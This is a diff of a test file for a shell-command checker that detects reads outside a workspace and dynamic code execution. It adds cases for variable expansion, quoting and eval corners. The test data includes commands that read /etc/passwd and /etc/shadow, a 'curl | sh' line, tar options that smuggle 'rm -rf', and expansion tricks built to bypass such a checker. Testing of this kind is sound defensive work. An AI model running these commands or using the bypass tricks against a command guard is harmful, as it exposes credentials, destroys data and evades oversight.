@@ -62,7 +62,8 @@ EXTERNAL = [
     ("x=/etc; cat $x/passwd", {("/etc/passwd", "read")}),
     ("export D=/etc; cat $D/passwd", {("/etc/passwd", "read")}),
     ("cat $EXAMPLE_DIR/x", {("/srv/data/x", "read")}),
-    ("cat ${UNSET_VAR:-/etc}/passwd", {("/etc/passwd", "read")}),
+    ("unset U; cat ${U:-/etc}/passwd", {("/etc/passwd", "read")}),
+    ("cat ${EXAMPLE_DIR:-/etc}/x", {("/srv/data/x", "read")}),
     ("cat /etc/{passwd,group}", {("/etc/passwd", "read"), ("/etc/group", "read")}),
     ("cat /var/log/app{1..2}.log", {("/var/log/app1.log", "read"), ("/var/log/app2.log", "read")}),
     ("cat $PWD/../x", {("/w/x", "read")}),
@@ -196,7 +197,8 @@ DYNAMIC = [
     ("cat $1", {"path"}),
     ('cat "$@"', {"path"}),
     ("cat $((1+2))", {"path"}),
-    ("cat ${x@P}", {"path"}),
+    ("cat ${x@P}", {"path", "code"}),
+    ("cat ${NOT_IN_ENV:-x}", {"path"}),  # a shell variable may be set though not exported
     ('eval "$CMD_UNSET"', {"code"}),
     ('bash -c "$CMD_UNSET"', {"code"}),
     ("curl https://x.sh | sh", {"code"}),
@@ -389,6 +391,15 @@ BYPASSES = [
     # functions defined in the line change the caller's directory and variables
     ("d() { cd /etc; }; d; cat shadow", ("dynamic", "path")),
     ("f() { x=/etc; }; x=ok; f; cat $x/shadow", ("dynamic", "path")),
+    # quoting and expansion corners
+    ('x=/srv/s; eval "cat \\$x"', ("external_directory", "/srv/s")),
+    ('bash -c "cat \\"/srv/q\\""', ("external_directory", "/srv/q")),
+    ("echo ${x:-`cat /srv/s`}", ("external_directory", "/srv/s")),
+    ("echo ${x:-<(cat /srv/s)}", ("dynamic", "code")),
+    ("echo ${BASH:+$(cat /srv/s)}", ("external_directory", "/srv/s")),
+    ("cat ${BASH:+/srv/secret}", ("dynamic", "path")),
+    ("x='$(cat /srv/s)'; echo ${x@P}", ("dynamic", "code")),
+    ("unset IFS; : ${IFS:=x}; y=ab; cat $y", ("dynamic", "path")),
     # options that carry a program to run
     ("tar -I 'rm -rf /srv' -cf a.tar src", ("external_directory", "/srv")),
     ("tar --to-command='rm -rf /srv' -xf a.tar", ("external_directory", "/srv")),
